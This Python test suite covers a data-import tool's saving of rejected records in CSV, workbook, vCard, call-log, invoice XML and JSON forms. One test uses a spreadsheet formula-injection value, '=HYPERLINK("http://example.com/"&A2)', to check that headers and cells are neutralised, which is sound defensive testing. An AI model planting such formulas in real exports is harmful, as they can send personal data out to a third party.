"""``--save-rejected``: what was rejected is written as it stood, in its own form, and comes in once it is mended."""

from __future__ import annotations

import csv
import json
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from seloste.cli.main import main
from seloste.intake.bytes import sources
from seloste.intake.spreadsheet import first_rows
from seloste.register import organisations
from tests.conftest import Engine
from tests.database import Register, a_register
from tests.intake.import_files import CODE, Asker, export, opted_in, vault_of, who
from tests.intake.test_calling import line
from tests.intake.workbooks import workbook

FINVOICE = Path(__file__).parents[1] / "samples" / "finvoice"


@pytest.fixture(scope="module")
def register(engine: Engine) -> Iterator[Register]:
    with a_register(engine) as register:
        yield register


@pytest.fixture(autouse=True)
def _at_home(home: Path) -> None:
    """Every command of these tests is one of this register."""


def rows(path: Path, separator: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=separator, strict=True))


def test_a_mended_row_comes_in_by_the_same_command(
    register: Register, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    file = export(tmp_path, "subscribed", opted_in("ehja@example.com"), Asker("rikki.example.com", "Rikki"))
    saved = tmp_path / "subscribed_rejected.csv"

    assert main(["import", str(file), "--source", "mailchimp", "--save-rejected", str(saved)]) == 0
    head, bad = rows(saved)
    assert bad[:2] == ["rikki.example.com", "Rikki"]
    assert dict(zip(head, bad, strict=True))["seloste: reason"] == "bad_email"
    assert bad[-3:] == ["3", "bad_email", "Email Address"]
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert "in the clear" in capsys.readouterr().out

    saved.write_text(saved.read_text(encoding="utf-8-sig").replace("rikki.", "rikki@"), encoding="utf-8")
    assert main(["import", str(saved), "--source", "mailchimp"]) == 0
    assert len(who(register, "rikki@example.com")) == 1


def test_each_kind_of_damage_is_saved_as_far_as_it_can_be_read(register: Register, tmp_path: Path):
    """A row with too many cells whole, a row with a bad quote in its first cell, a code that is never stored too."""
    mapping, file, saved = tmp_path / "m.toml", tmp_path / "f.csv", tmp_path / "saved.csv"
    mapping.write_text(
        'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\nN = "contact.name"\n'
    )
    file.write_text(
        f'E;N\na@example.com;A;liikaa\n"b@example.com"x;B\nc@example.com;{CODE}\n+d;D\nhyva@example.com;H\n'
    )

    assert main(["import", str(file), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0

    head, *found = rows(saved, ";")
    assert head == ["E", "N", "seloste: record", "seloste: reason", "seloste: column"]
    assert found[0] == ["a@example.com", "A", "liikaa", "2", "too_many_cells", ""]
    assert found[1][0] == '"b@example.com"x;B'
    assert found[2][1:] == [CODE, "4", "national_identity_code", "N"]
    assert found[3][:2] == ["'+d", "D"], "no spreadsheet evaluates it"
    assert len(found) == 4


def test_a_header_is_no_formula_in_the_file_either_and_is_itself_when_given_again(
    register: Register, tmp_path: Path
):
    """A spreadsheet evaluates it as it does a cell, and it stands above everybody's data."""
    sly = '=HYPERLINK("http://example.com/"&A2)'
    mapping, file, saved = tmp_path / "m.toml", tmp_path / "f.csv", tmp_path / "saved.csv"
    mapping.write_text(
        f'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\n\'{sly}\' = "contact.name"\n'
    )
    quoted = sly.replace('"', '""')
    file.write_text(f'E,"{quoted}"\nhuono,Ovela\nkelpo@example.com,K\n')

    assert main(["import", str(file), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0

    assert rows(saved)[0][:2] == ["E", f"'{sly}"]
    saved.write_text(saved.read_text(encoding="utf-8-sig").replace("huono", "ovela@example.com"))
    assert main(["import", str(saved), "--mapping", str(mapping)]) == 0
    assert len(who(register, "ovela@example.com")) == 1


def test_files_whose_names_differ_by_their_ending_alone_lose_no_row_to_each_other(
    register: Register, tmp_path: Path
):
    mapping, saved = tmp_path / "m.toml", tmp_path / "saved"
    mapping.write_text(
        'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\nN = "contact.name"\n'
    )
    files = [tmp_path / "lista.csv", tmp_path / "lista.txt"]
    for number, file in enumerate(files):
        file.write_text(f"E,N\nhuono{number},A\n")

    assert main(["import", *map(str, files), "--mapping", str(mapping), "--save-rejected", str(saved)]) == 0

    assert sorted(row[0] for path in saved.iterdir() for row in rows(path)[1:]) == ["huono0", "huono1"]


MAPPING = (
    'source = "business_card"\nrelation = "customer_rep"\n[column]\nE = "contact.email"\nN = "contact.name"\n'
)


@pytest.mark.parametrize("ending", [".xlsx", ".csv"])
def test_rows_of_a_workbook_are_a_workbook_again_or_a_table_where_one_is_asked_for(
    register: Register, tmp_path: Path, ending: str
):
    mapping, saved = tmp_path / "m.toml", tmp_path / f"saved{ending}"
    mapping.write_text(MAPPING)
    bad, good = f"huono{ending}", f"mendattu{ending[1:]}@example.com"
    rows_of = [["E", "N"], [bad, "Ääni"], ["=1+1", "Kaava"], [f"taulukko{ending}@example.com", "T"]]
    file = workbook(tmp_path / "w.xlsx", rows_of)
    asked = ["--mapping", str(mapping)]

    assert main(["import", str(file), *asked, "--save-rejected", str(saved)]) == 0

    found = rows(saved) if ending == ".csv" else sheet(saved)
    assert found[0] == ["E", "N", "seloste: record", "seloste: reason", "seloste: column"]
    assert found[1][:2] == [bad, "Ääni"]
    assert found[2][0] in ("'=1+1", "")
    assert len(found) == 3
    found[1][0] = good
    mended = tmp_path / f"mended{ending}"
    if ending == ".csv":
        mended.write_text("\n".join(",".join(row) for row in found), encoding="utf-8")
    else:
        workbook(mended, found)
    assert main(["import", str(mended), *asked]) == 0
    assert len(who(register, good)) == 1


def sheet(path: Path) -> list[list[str]]:
    """A workbook's rows as its reader reads them."""
    return [list(row) for row in first_rows(sources(path)[0])]


def test_of_several_files_each_has_its_own_in_a_folder(register: Register, tmp_path: Path):
    """Their names keep the status by which the next command reads them."""
    one = export(tmp_path / "x", "subscribed", Asker("eka"), mark="a1")
    two = export(tmp_path / "x", "unsubscribed", Asker("toka"), Asker("kunnossa@example.com"), mark="a1")
    saved = tmp_path / "saved"

    assert main(["import", str(one), str(two), "--source", "mailchimp", "--save-rejected", str(saved)]) == 0

    assert {path.name: len(rows(path)) for path in saved.iterdir()} == {one.name: 2, two.name: 2}


def test_a_list_of_refusals_is_saved_line_by_line_with_its_reasons_as_remarks(
    register: Register, tmp_path: Path
):
    """A line that can't be read may be a refusal that isn't applied: mended, it is."""
    file, saved = tmp_path / "kielto.txt", tmp_path / "mend.txt"
    file.write_text("# lista\n+358500003101\n12\n+358500003102\n")

    assert (
        main(
            ["import", str(file), "--source", "telephone", "--lists", "phone", "--save-rejected", str(saved)]
        )
        == 3
    )

    assert saved.read_text(encoding="utf-8-sig") == "# bad_phone, line 3\n12\n"
    saved.write_text(
        saved.read_text(encoding="utf-8-sig").replace("\n12\n", "\n+358500003103\n+358500003104\n")
    )
    assert main(["import", str(saved), "--source", "telephone", "--lists", "phone"]) == 0


def test_where_nothing_is_rejected_no_file_is_written(
    register: Register, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    file = export(tmp_path, "subscribed", opted_in("kaikki@example.com"))
    saved = tmp_path / "saved.csv"

    assert main(["import", str(file), "--source", "mailchimp", "--save-rejected", str(saved)]) == 0

    assert not saved.exists()
    assert "none was saved" in capsys.readouterr().out


def test_rejected_cards_are_cards_and_come_in_once_they_are_mended(register: Register, tmp_path: Path):
    """A fold within a letter, a picture, a card that never ends: the others lose nothing by it."""
    file, saved = tmp_path / "c.vcf", tmp_path / "saved.vcf"
    file.write_bytes(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Hyvä Kortti\r\nEMAIL:hyva.kortti@example.com\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Äijö Osoitteeton\r\nPHOTO;ENCODING=b:AAAA\r\nEMAIL:aijo.exa\r\n mple\r\n"
        "END:VCARD\r\nBEGIN:VCARD\r\nVERSION:3.0\r\nFN:Päätön\r\nEMAIL:paaton@example.com\r\n".encode()
    )
    told = ("--source", "business_card", "--relation", "customer_rep")

    assert main(["import", str(file), *told, "--save-rejected", str(saved)]) == 0

    text = saved.read_bytes().decode()
    assert stat.S_IMODE(saved.stat().st_mode) == 0o600
    assert (text.count("BEGIN:VCARD"), text.count("END:VCARD"), "PHOTO" in text) == (2, 1, False)
    assert "FN:Äijö Osoitteeton" in text
    assert "Hyvä" not in text
    again = tmp_path / "again.vcf"
    assert main(["import", str(saved), *told, "--save-rejected", str(again)]) == 0
    assert again.read_bytes() == saved.read_bytes(), "unmended, the same is rejected"
    mended = text.replace("aijo.example", "aijo@example.com").replace("\r\n\r\n", "\r\nEND:VCARD\r\n")
    saved.write_bytes(mended.encode())
    assert main(["import", str(saved), *told]) == 0
    assert [len(who(register, email)) for email in ("aijo@example.com", "paaton@example.com")] == [1, 1]


def test_rejected_calls_are_lines_of_a_log_and_one_still_written_is_not_among_them(
    register: Register, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    log, saved = tmp_path / "Master.csv", tmp_path / "saved.csv"
    good = line("+358500004101", "101", "1793607399.1")
    bad = good.replace("399.1", "399.2").replace(",75,60,", ",75,kesto,")
    log.write_text(good + bad + good.replace("399.1", "399.3").rstrip("\n"), encoding="utf-8")
    told = ("--source", "telephone", "--own", "101", "--zone", "Europe/Helsinki")

    assert main(["import", str(log), *told, "--save-rejected", str(saved)]) == 0

    assert saved.read_text(encoding="utf-8-sig") == bad
    saved.write_text(bad.replace("kesto", "60"), encoding="utf-8")
    capsys.readouterr()
    assert main(["import", str(saved), *told, "--json"]) == 0
    told_again = json.loads(capsys.readouterr().out)
    assert (told_again["counts"]["accepted"], told_again["rejected"]) == (1, {})


def test_rejected_invoices_are_invoices_with_their_reasons_as_a_remark(register: Register, tmp_path: Path):
    """In their own encoding, each behind its own declaration, so that several stay a chain that is read."""
    good, bad = ((FINVOICE / name).read_bytes() for name in ("invoice-30.xml", "wrong-numbers-30.xml"))
    file, saved = tmp_path / "laskut.xml", tmp_path / "saved.xml"
    file.write_bytes(bad + good)

    assert main(["import", str(file), "--source", "odoo", "--save-rejected", str(saved)]) == 0

    text = saved.read_bytes().decode("iso-8859-15")
    assert text.startswith('<?xml version="1.0" encoding="ISO-8859-15"?>\n<!-- seloste: record 1: ')
    assert "sum_mismatch" in text.splitlines()[1]
    assert text.count("<Finvoice ") == 1
    saved.write_bytes(saved.read_bytes().split(b"<Finvoice", 1)[0] + good[good.index(b"<Finvoice") :])
    assert main(["import", str(saved), "--source", "odoo"]) == 0
    again = tmp_path / "again.xml"
    assert main(["import", str(saved), "--source", "odoo", "--save-rejected", str(again)]) == 0
    assert not again.exists()


def test_rejected_items_of_the_trade_register_are_a_list_of_items(register: Register, tmp_path: Path):
    wrong = {"businessId": {"value": "9900041-2"}, "names": [{"name": "Korjattava Oy", "type": "1"}]}
    file, saved = tmp_path / "ytj.json", tmp_path / "saved.json"
    file.write_text(json.dumps({"totalResults": 1, "companies": [wrong]}), encoding="utf-8")
    told = ("--source", "trade_register", "--relation", "customer_rep")

    assert main(["import", str(file), *told, "--save-rejected", str(saved)]) == 0

    found = json.loads(saved.read_text(encoding="utf-8"))
    assert found["companies"] == [wrong | {"seloste: reason": "bad_business_id"}]
    assert found["totalResults"] == 1
    right = business_id_of("9900041")
    saved.write_text(saved.read_text(encoding="utf-8").replace("9900041-2", right), encoding="utf-8")
    assert main(["import", str(saved), *told]) == 0
    assert organisations.by_business_id(vault_of(register), right)


def business_id_of(digits: str) -> str:
    """The business ID of these seven digits with its check digit (R2.1a)."""
    rest = sum(int(d) * w for d, w in zip(digits, (7, 9, 10, 5, 8, 4, 2), strict=True)) % 11
    assert rest != 1
    return f"{digits}-{0 if rest == 0 else 11 - rest}"


def test_a_dry_run_saves_them_too_and_stores_nothing(register: Register, tmp_path: Path):
    file = export(tmp_path, "subscribed", opted_in("kuiva@example.com"), Asker("rikki"))
    saved = tmp_path / "subscribed.csv"

    assert (
        main(["import", str(file), "--source", "mailchimp", "--dry-run", "--save-rejected", str(saved)]) == 0
    )

    assert len(rows(saved)) == 2
    assert who(register, "kuiva@example.com") == []
